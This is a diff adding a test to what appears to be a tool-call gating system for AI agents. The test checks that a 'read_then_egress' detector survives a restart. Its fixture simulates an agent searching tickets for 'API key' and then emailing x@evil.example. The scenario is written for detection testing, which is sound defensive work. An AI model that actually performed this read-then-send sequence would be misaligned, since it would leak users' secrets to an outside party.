@@ -206,6 +206,31 @@ for (const backend of backends()) {
         assert.equal(rows[0]?.tool_id, 'post_webhook');
       });
 
+      test('a restart remembers the window’s private reads from the audit log', async () => {
+        const ctx = await open('support-bot');
+        allowed(await tg.gate.invoke(ctx, 'search_tickets', { query: 'API key' }));
+        await settle();
+        const other = await openToolgate({ db: dbUrl, clock: () => now });
+        try {
+          now = new Date(now.getTime() + 30_000);
+          await other.gate.invoke(ctx, 'send_email', {
+            to: 'x@evil.example',
+            subject: 's',
+            body: 'b',
+          });
+          await other.gate.flush();
+          await other.detectors?.idle();
+          const fired = other.detectors
+            ?.recentAlerts()
+            .filter(
+              (a) => a.alert.detector === 'read_then_egress' && a.alert.sessionId === ctx.sessionId,
+            );
+          assert.equal(fired?.length, 1);
+        } finally {
+          await other.close();
+        }
+      });
+
       test('benign: egress after the window, egress before the read, or a read that failed do not fire', async () => {
         const late = await open('support-bot');
         allowed(await tg.gate.invoke(late, 'search_tickets', { query: 'refund' }));
